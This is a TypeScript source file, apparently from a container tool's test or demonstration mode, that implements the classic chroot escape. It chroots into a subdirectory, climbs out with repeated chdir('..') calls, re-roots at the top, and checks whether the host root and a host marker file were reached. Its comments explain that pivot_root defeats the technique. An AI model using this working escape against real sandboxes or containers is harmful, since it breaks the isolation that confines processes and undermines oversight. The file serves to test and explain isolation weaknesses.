// The classic chroot escape, as a program: why a chroot alone is no container.
//
// chroot(dir) changes only where "/" is for path lookups; it does not move the working
// directory. A process whose working directory is outside its root walks up with ".."
// as far as the real root: the kernel stops ".." only AT the root, never above it. So:
//   chroot("tmp")        the root is now <old root>/tmp; the working directory stays at
//                        <old root>, outside it
//   chdir("..") x N      up and up, until "." stops changing: the top of the mount namespace
//   chroot(".")          make that the root
// It needs CAP_SYS_CHROOT (for the first chroot). pivot_root in a mount namespace of the
// container's own defeats it: above the container's root there is nothing left to walk to.
//
// Run by nsinit's escape mode on its main thread, after unshare(CLONE_FS): chroot and
// chdir change only this thread's root and working directory, and only the *Sync fs calls
// run on this thread (the async ones run on the thread pool, which keeps the old root).
import fs from 'node:fs';
import * as libc from './libc.js';

/** One syscall of the escape and how it went ('chroot("tmp")', 'chdir("..") x 23', 'chroot(".")'). */
export interface EscapeStep {
  call: string;
  ok: boolean;
  /** The errno name (EPERM) or message when it failed. */
  error?: string;
}

export interface EscapeResult {
  steps: EscapeStep[];
  /** The root the escape ended in is the host's root (same st_dev and st_ino as the driver's "/"). */
  reachedHostRoot: boolean;
  /** What the marker file (a host path) held, read after the escape; null when not found. */
  marker: string | null;
  /** A few entries of the "/" it ended in. */
  rootEntries: string[];
}

const SHOWN_ENTRIES = 12;
/** Far more than any real path is deep: a bound for the walk up. */
const MAX_WALK = 4096;

const sameDir = (a: fs.Stats, b: fs.Stats) => a.dev === b.dev && a.ino === b.ino;

/** Try the escape from the root this thread has now (its working directory at that root).
 * `hostRoot` is the host's "/" as the caller saw it before it entered the container. */
export function escapeChroot(marker: string, hostRoot: fs.Stats): EscapeResult {
  const steps: EscapeStep[] = [];
  const attempt = (call: string, fn: () => void): boolean => {
    try {
      fn();
      steps.push({ call, ok: true });
      return true;
    } catch (err) {
      steps.push({ call, ok: false, error: (err as libc.SyscallError).code ?? (err as Error).message });
      return false;
    }
  };

  const dir = directoryBelowRoot();
  if (dir === null) steps.push({ call: 'chroot(<a directory>)', ok: false, error: 'the root has no directory to chroot into' });
  else if (attempt(`chroot(${JSON.stringify(dir)})`, () => libc.chroot(dir))) {
    // The working directory is still the old root, now outside the root: ".." is not stopped.
    // (A directory on the way this process may not search would stop it: EACCES.)
    let climbed = 0;
    const climbToTheTop = () => {
      for (let here = fs.statSync('.'); climbed < MAX_WALK; climbed++) {
        libc.chdir('..');
        const up = fs.statSync('.');
        if (sameDir(up, here)) return; // at the top: ".." of the topmost directory is itself
        here = up;
      }
    };
    attempt('chdir("..")', climbToTheTop);
    steps.at(-1)!.call = `chdir("..") x ${climbed}`;
    attempt('chroot(".")', () => libc.chroot('.'));
  }

  let text: string | null = null;
  try {
    text = fs.readFileSync(marker, 'utf8');
  } catch {
    /* not there: still inside */
  }
  return { steps, reachedHostRoot: sameDir(fs.statSync('/'), hostRoot), marker: text, rootEntries: fs.readdirSync('/').sort().slice(0, SHOWN_ENTRIES) };
}

/** An existing directory just below "/": 'tmp' when there is one, else the first by name.
 * An existing one, so that the escape writes nothing. */
function directoryBelowRoot(): string | null {
  const dirs = fs
    .readdirSync('/', { withFileTypes: true })
    .filter((e) => e.isDirectory())
    .map((e) => e.name)
    .sort();
  return dirs.includes('tmp') ? 'tmp' : (dirs[0] ?? null);
}
